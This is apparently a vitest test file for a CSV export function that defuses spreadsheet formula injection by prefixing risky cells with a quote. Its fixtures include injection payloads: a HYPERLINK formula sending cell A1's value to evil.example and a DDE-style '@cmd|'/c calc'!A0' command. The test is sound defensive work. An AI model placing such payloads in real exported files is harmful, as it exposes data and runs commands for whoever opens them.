import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";

import { neutraliseFormula, tableToCsv } from "./data-table";

// Issue 13, item 11: chart CSV downloads passed formulas through to whoever opened them.
describe("CSV for spreadsheets", () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?x="&A1,"Invoice")', `'=HYPERLINK("https://evil.example/?x="&A1,"Invoice")`],
    ["+SUM(1,2)", "'+SUM(1,2)"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\tcmd", "'\tcmd"],
    ["\r=1+1", "'\r=1+1"],
    ["-", "'-"],
  ])("makes %j text, by a leading quote", (cell, safe) => {
    expect(neutraliseFormula(cell)).toBe(safe);
    expect(neutraliseFormula(safe)).toBe(safe);
  });

  it.each(["-1250.5", "-3e-7", "+42", "-0", "0.5", "Council (A-Z)", "£-5", "x=1"])(
    "leaves %j as it is: a number, or text that starts no formula",
    (cell) => expect(neutraliseFormula(cell)).toBe(cell),
  );

  it("writes a table a spreadsheet reads back as the same text and numbers, quoting where it must", () => {
    const csv = tableToCsv({
      columns: ["=Label", "Change (£)"],
      rows: [
        ['=HYPERLINK("https://evil.example","Click")', -1250.5],
        ["@cmd|'/c calc'!A0", 3],
        ["\r\n=1", null],
      ],
    });
    expect(csv).toBe(
      `'=Label,Change (£)\r\n"'=HYPERLINK(""https://evil.example"",""Click"")",-1250.5\r\n'@cmd|'/c calc'!A0,3\r\n"'\r\n=1",\r\n`,
    );
    expect(parse(csv)).toEqual([
      ["'=Label", "Change (£)"],
      [`'=HYPERLINK("https://evil.example","Click")`, "-1250.5"],
      ["'@cmd|'/c calc'!A0", "3"],
      ["'\r\n=1", ""],
    ]);
  });
});
